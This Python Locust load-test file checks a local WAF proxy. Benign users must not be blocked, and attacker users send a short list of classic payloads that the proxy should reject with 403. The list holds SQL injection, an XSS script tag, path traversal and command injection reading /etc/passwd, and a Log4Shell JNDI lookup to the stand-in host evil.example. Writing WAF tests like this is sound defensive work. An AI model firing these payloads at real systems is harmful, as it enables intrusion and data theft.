"""Locust scenario against ``wafproxy demo`` (or any wafproxy in front of the demo app).

    .venv/bin/pip install -e '.[load]'
    .venv/bin/wafproxy demo &            # proxy on http://127.0.0.1:8080
    .venv/bin/locust -f load_tests/locustfile.py --headless -u 20 -r 5 -t 30s --host http://127.0.0.1:8080

Two kinds of user: a benign one browsing and using the JSON API (any 403 is a false positive and
counts as a failure), and an attacker sending well-known attack payloads (any answer other than
403 means the attack got through and counts as a failure).
"""

from __future__ import annotations

import random

from locust import HttpUser, between, task

ATTACKS: list[tuple[str, str, dict[str, str] | None]] = [
    ("GET", "/search?q=%27%20OR%201%3D1--", None),
    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
    ("GET", "/static/..%2f..%2f..%2fetc%2fpasswd", None),
    ("GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", None),
    ("GET", "/search?q=%3Bcat%20%2Fetc%2Fpasswd", None),
    ("POST", "/login", {"username": "admin' --", "password": "x"}),
]
BENIGN_QUERIES = ["running shoes", "O'Brien", "select the union of", "bash guitar pedal", "a <= b"]


class BenignUser(HttpUser):
    weight = 4
    wait_time = between(0.1, 0.5)

    @task(3)
    def search(self) -> None:
        with self.client.get("/search", params={"q": random.choice(BENIGN_QUERIES)}, name="/search",
                             catch_response=True) as resp:
            if resp.status_code == 403:
                resp.failure("false positive: benign search blocked")

    @task(2)
    def items(self) -> None:
        with self.client.put("/api/items/1", json={"name": "drop me a line", "qty": 2}, name="/api/items/[id]",
                             catch_response=True) as resp:
            if resp.status_code == 403:
                resp.failure("false positive: JSON PUT blocked")

    @task(1)
    def home(self) -> None:
        self.client.get("/")


class AttackerUser(HttpUser):
    weight = 1
    wait_time = between(0.1, 0.5)

    @task
    def attack(self) -> None:
        method, path, form = random.choice(ATTACKS)
        with self.client.request(method, path, data=form, name="attack", catch_response=True) as resp:
            if resp.status_code != 403:
                resp.failure(f"attack not blocked ({resp.status_code}): {method} {path}")
            else:
                resp.success()
